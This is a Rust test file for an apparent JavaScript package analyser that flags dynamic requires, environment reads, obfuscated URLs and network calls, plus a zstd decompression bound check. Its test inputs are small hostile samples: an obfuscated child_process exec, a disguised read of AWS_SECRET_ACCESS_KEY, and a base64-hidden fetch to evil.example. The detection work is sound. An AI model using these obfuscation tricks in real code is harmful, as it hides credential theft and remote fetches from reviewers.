use super::*;
use crate::content::manifest::BehaviourKind as K;

fn run(src: &str) -> Vec<Behaviour> {
    let (b, err) = analyse_str("m.js", src, &JsLimits::default());
    assert_eq!(err, None, "{src}");
    b
}

fn has(b: &[Behaviour], kind: K, value: &str) -> bool {
    b.iter()
        .any(|x| x.kind == kind && x.value.as_deref() == Some(value))
}

#[test]
fn concatenated_require_resolves() {
    let b = run("const cp = require('child'+'_process'); cp.exec('id');");
    assert!(has(&b, K::ProcessSpawn, "id"), "{b:#?}");
    assert!(has(&b, K::DynamicRequire, "child_process"), "{b:#?}");
}

#[test]
fn env_through_computed_member() {
    let b = run("const k = process['en'+'v'].AWS_SECRET_ACCESS_KEY;");
    let e = b.iter().find(|x| x.kind == K::EnvRead).expect("env-read");
    assert_eq!(e.value.as_deref(), Some("AWS_SECRET_ACCESS_KEY"));
    assert!(e.attributes.contains("credential"));
    assert_eq!((e.line, e.column), (1, 11));
}

#[test]
fn base64_url_is_decoded() {
    let b = run("fetch(atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGUvcA=='));");
    assert!(has(&b, K::Url, "https://evil.example/p"), "{b:#?}");
    assert!(b.iter().any(|x| x.kind == K::Obfuscation));
    assert!(has(&b, K::Network, "fetch"));
}

#[test]
fn parse_error_is_recorded() {
    let (b, err) = analyse_str("m.js", "function (", &JsLimits::default());
    assert!(b.is_empty());
    assert!(err.is_some_and(|e| e.starts_with("1:")));
}

#[test]
fn zst_round_trip_is_bounded() {
    // A zstd frame of "hello" (raw block), made with the zstd tool.
    let frame = [
        0x28, 0xb5, 0x2f, 0xfd, 0x04, 0x58, 0x29, 0x00, 0x00, b'h', b'e', b'l', b'l', b'o', 0x66,
        0x0b, 0x2a, 0x7c,
    ];
    let r = zst_decompress(&frame, 100);
    if let Ok(d) = &r {
        assert_eq!(d, b"hello");
        assert!(zst_decompress(&frame, 2).is_err());
    }
    assert!(zst_decompress(b"not zstd", 100).is_err());
}
